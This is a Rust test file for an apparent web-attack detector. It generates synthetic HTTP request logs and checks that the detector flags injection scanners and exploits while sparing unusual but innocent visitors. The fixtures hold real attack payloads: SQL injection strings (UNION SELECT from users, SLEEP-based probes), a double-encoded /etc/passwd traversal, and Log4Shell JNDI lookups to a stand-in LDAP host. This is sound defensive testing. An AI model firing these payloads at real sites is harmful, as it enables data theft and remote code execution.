//! Attacks on web applications that are found, and odd but innocent clients that are spared.

use crate::{
    organization::Dice,
    rig::{Row, corpus, detector, judged, keeps_the_contract, p_values_stay, raised, survives, within_a_hundredth},
};

const DAY_S: f64 = 86_400.0;
const SITE: &str = "shop.example";
const STRANGER: &str = "203.0.113.66";

fn request(at: f64, src: &str, path: &str, query: &str, status: i64, bytes: i64) -> Row {
    let row = Row::new("http_requests", at)
        .with("src_ip", src)
        .with("host", SITE)
        .with("method", "GET")
        .with("path", path)
        .with("status", status)
        .with("response_bytes", bytes);
    if query.is_empty() { row } else { row.with("query", query) }
}

/// Visitors who read pages and search; some search for code, some follow dead links.
fn visitors(seed: u64, days: std::ops::Range<i64>, n: usize) -> Vec<Row> {
    const PAGES: [&str; 6] = ["/", "/about", "/items/17", "/items/4", "/blog/how-we-ship", "/assets/app.js"];
    const QUESTIONS: [&str; 6] = [
        "select%20*%20from%20items%20where%20id%3D5",
        "50%25%20off%3B%20or%20and",
        "c%3A%5Cwindows%5Cfonts",
        "%7B%7B%20template%20%7D%7D",
        "blue%20shoes",
        "O%27Brien",
    ];
    let mut rows = Vec::new();
    for day in days {
        let mut dice = Dice(seed * 1_000 + day as u64 + 1);
        for visitor in 0..n {
            let src = format!("198.18.{}.{}", visitor / 250, visitor % 250 + 1);
            let mut at = day as f64 * DAY_S + dice.between(0.0, 80_000.0);
            for _ in 0..4 {
                let page = PAGES[(dice.unit() * 6.0) as usize % 6];
                rows.push(request(at, &src, page, "", 200, 8_000 + (dice.unit() * 900.0) as i64));
                at += dice.between(1.0, 60.0);
            }
            if dice.unit() < 0.4 {
                let question = QUESTIONS[(dice.unit() * 6.0) as usize % 6];
                let words = (dice.unit() * 900.0) as u32;
                let query = if dice.unit() < 0.5 { format!("q={question}") } else { format!("q=item%20{words}") };
                rows.push(request(at, &src, "/search", &query, 200, 5_000 + (dice.unit() * 900.0) as i64));
            }
            // What only this one asks for, odd or not.
            if dice.unit() < 0.02 {
                let query = format!("q=SELECT%20name%20FROM%20t{}%20WHERE%20id%3D{}--", visitor, day);
                rows.push(request(at, &src, "/search", &query, 200, 5_100));
            }
        }
    }
    rows
}

fn injections(day: f64, src: &str, n: usize, status: i64, bytes: i64) -> Vec<Row> {
    let query = |i: usize| match i % 3 {
        0 => format!("sort={i}%27%20OR%20%27a{i}%27%3D%27a{i}"),
        1 => format!("sort=-{i}%27%20UNION%20ALL%20SELECT%20NULL%2Cconcat%280x{i}%2Cversion%28%29%29--%20-"),
        _ => format!("sort={i}%20AND%20%28SELECT%20{i}%20FROM%20%28SELECT%28SLEEP%285%29%29%29x{i}%29"),
    };
    (0..n)
        .map(|i| request(day * DAY_S + 50_000.0 + i as f64, src, "/items", &query(i), status, bytes + i as i64))
        .collect()
}

fn raises(rows: &[Row], day: i64) -> Vec<String> {
    let said = raised("web_attack", rows, day);
    let name = |finding: &schema::Finding| {
        let client = finding.object.as_ref().map_or("", |client| &client.value);
        format!("{} {client} {}", finding.subject.value, finding.techniques.join(" "))
    };
    said.iter().map(name).collect()
}

#[test]
fn a_stranger_who_tries_injections_is_found_as_a_scanner() {
    let rows = [visitors(1, 0..1, 600), injections(0.0, STRANGER, 20, 403, 900)].concat();
    assert_eq!(raises(&rows, 0), ["shop.example 203.0.113.66 T1595.002"]);
    keeps_the_contract("web_attack", &rows, 0);
}

#[test]
fn a_much_larger_answer_makes_it_an_exploit() {
    let mut rows = [visitors(1, 0..1, 600), injections(0.0, STRANGER, 20, 200, 4_000)].concat();
    rows.push(request(
        51_000.0,
        STRANGER,
        "/items",
        "sort=1%27%20UNION%20SELECT%20a%2Cb%20FROM%20users--",
        200,
        190_000,
    ));
    assert_eq!(raises(&rows, 0), ["shop.example 203.0.113.66 T1190"]);
    let finding = raised("web_attack", &rows, 0).remove(0);
    assert!(finding.because.contains("190000 bytes is 47 times as large"), "{}", finding.because);
    assert!(finding.because.contains("SQL injection"), "{}", finding.because);
}

#[test]
fn a_server_that_fails_for_him_alone_is_success_as_well() {
    let mut rows = [visitors(1, 0..1, 600), injections(0.0, STRANGER, 12, 404, 900)].concat();
    rows.push(request(51_000.0, STRANGER, "/items", "sort=1%27%20UNION%20SELECT%20a%2Cb%20FROM%20users--", 500, 900));
    assert_eq!(raises(&rows, 0), ["shop.example 203.0.113.66 T1190"]);
}

#[test]
fn a_scanner_that_says_so_is_raised_only_where_it_gets_something() {
    let agent = "Mozilla/5.0 (compatible; VelmontSecurityScan/4.1; +https://scan.velmont.example)";
    let scan: Vec<Row> =
        injections(0.0, STRANGER, 20, 200, 4_000).into_iter().map(|row| row.with("user_agent", agent)).collect();
    assert_eq!(raises(&[visitors(1, 0..1, 600), scan.clone()].concat(), 0), [""; 0]);
    let dump = request(51_000.0, STRANGER, "/items", "sort=1%27%20UNION%20SELECT%20a%20FROM%20users--", 200, 190_000);
    assert_eq!(raises(&[visitors(1, 0..1, 600), scan, vec![dump]].concat(), 0), ["shop.example 203.0.113.66 T1190"]);
}

#[test]
fn an_attacker_inside_is_no_daily_life() {
    let rows = [visitors(1, 0..1, 600), injections(0.0, "10.1.2.3", 12, 404, 900)].concat();
    assert_eq!(raises(&rows, 0), ["shop.example 10.1.2.3 T1190"]);
}

#[test]
fn escapes_and_headers_hide_nothing() {
    let twice = |i: usize| format!("file=%252e%252e%252f%252e%252e%252f{i}%252fetc%252fpasswd");
    let nested = (0..12).map(|i| request(40_000.0 + i as f64, STRANGER, "/docs", &twice(i), 404, 900));
    let headers = (0..12).map(|i| {
        let agent = format!("${{jndi:ldap://x{i}.example/a}}");
        request(41_000.0 + f64::from(i), "203.0.113.67", "/", "", 200, 8_000).with("user_agent", agent)
    });
    let rows: Vec<Row> = visitors(1, 0..1, 600).into_iter().chain(nested).chain(headers).collect();
    let mut found = raises(&rows, 0);
    found.sort();
    assert_eq!(found, ["shop.example 203.0.113.66 T1595.002", "shop.example 203.0.113.67 T1595.002"]);
}

#[test]
fn odd_questions_that_many_ask_are_ordinary() {
    assert_eq!(raises(&visitors(2, 0..3, 600), 2), [""; 0]);
}

#[test]
fn what_many_send_and_nobody_gets_is_not_ordinary() {
    // Twenty strangers try the same holes, which the site does not have.
    let strangers = (0..20).flat_map(|n| injections(0.0, &format!("203.0.113.{n}"), 12, 403, 900));
    let rows: Vec<Row> = visitors(1, 0..1, 600).into_iter().chain(strangers).collect();
    assert_eq!(raises(&rows, 0).len(), 20);
}

#[test]
fn who_always_sends_code_is_known_for_it() {
    let editor = |day: i64| injections(day as f64, "198.18.9.9", 15, 200, 4_000);
    let rows: Vec<Row> = visitors(1, 0..8, 300).into_iter().chain((0..8).flat_map(editor)).collect();
    assert_eq!(raises(&rows, 7), [""; 0]);
}

#[test]
fn on_a_site_of_attackers_only_nobody_stands_out() {
    let strangers = (0..60).flat_map(|n| injections(0.0, &format!("203.0.113.{n}"), 12, 200, 900));
    let unlike: Vec<Row> = strangers
        .enumerate()
        .map(|(i, row)| row.with("query", format!("id={i}%27%20OR%20%27a{i}%27%3D%27a{i}")))
        .collect();
    assert_eq!(raises(&unlike, 0), [""; 0]);
}

#[test]
fn quiet_days_raise_little() {
    let raised: usize = (1..=10).map(|seed| raises(&visitors(seed, 0..2, 400), 1).len()).sum();
    assert!(raised <= 1, "{raised} of 10 days");
}

#[test]
fn p_values_keep_their_promise() {
    let quiet = (1..=10).map(|seed| judged(detector("web_attack"), &visitors(seed, 0..3, 400), 2));
    p_values_stay(quiet, &[0.1, 0.05, 0.01, 0.001], within_a_hundredth);
}

#[test]
fn power_grows() {
    let found = |n: usize, seed: u64| {
        let rows = [visitors(seed, 0..1, 600), injections(0.0, STRANGER, n, 404, 900)].concat();
        usize::from(!raises(&rows, 0).is_empty())
    };
    let of_ten = |n: usize| (1..=10).map(|seed| found(n, seed)).sum::<usize>();
    let power: Vec<usize> = [2, 4, 8, 12, 16, 24].map(of_ten).to_vec();
    println!("found of ten with 2, 4, 8, 12, 16, 24 payloads: {power:?}");
    assert!(power.is_sorted() && power[0] == 0 && power[5] == 10, "{power:?}");
}

#[test]
fn hostile_rows_bring_nothing_down() {
    (0..20).for_each(|seed| survives("web_attack", seed));
}

#[test]
fn cases() {
    corpus("web_attack");
}
